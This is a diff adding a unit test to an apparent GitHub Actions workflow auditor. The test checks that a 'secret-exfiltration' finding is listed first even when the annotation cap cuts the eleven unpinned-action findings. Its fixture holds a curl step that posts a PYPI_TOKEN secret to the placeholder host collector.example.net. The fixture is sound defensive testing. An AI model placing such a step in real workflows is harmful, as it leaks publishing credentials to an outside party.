@@ -95,6 +95,19 @@ describe('annotations', () => {
     expect(omitted).toBe(4)
     expect(commandLines(r).at(-1)).toBe('::notice::4 more findings: see the job summary or the JSON report')
   })
+
+  it('keeps the most dangerous when the cap cuts: a secret sent away at the last line is shown before eleven pins', () => {
+    const steps = Array.from({ length: 11 }, (_, i) => `      - uses: actions/setup-python@v${i + 1}`).join('\n')
+    const exfil = '      - run: curl -d "$TOKEN" https://collector.example.net/\n        env:\n          TOKEN: ${{ secrets.PYPI_TOKEN }}'
+    const r = auditWorkflow(parseWorkflow(`on: push\npermissions: {}\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n${steps}\n${exfil}\n`, 'p.yml'))
+    expect(r.findings.filter((f) => f.blocking).length).toBeGreaterThan(MAX_PER_LEVEL)
+    // report order (by line) would have cut it ...
+    expect(r.findings.filter((f) => f.blocking).findIndex((f) => f.rule === 'secret-exfiltration')).toBeGreaterThanOrEqual(MAX_PER_LEVEL)
+    const { list } = annotations(r)
+    // ... annotations put it first
+    expect(list[0].title).toBe('secret-exfiltration')
+    expect(list.filter((a) => a.title === 'unpinned-uses')).toHaveLength(MAX_PER_LEVEL - list.filter((a) => a.title !== 'unpinned-uses').length)
+  })
 })
 
 describe('JSON report', () => {
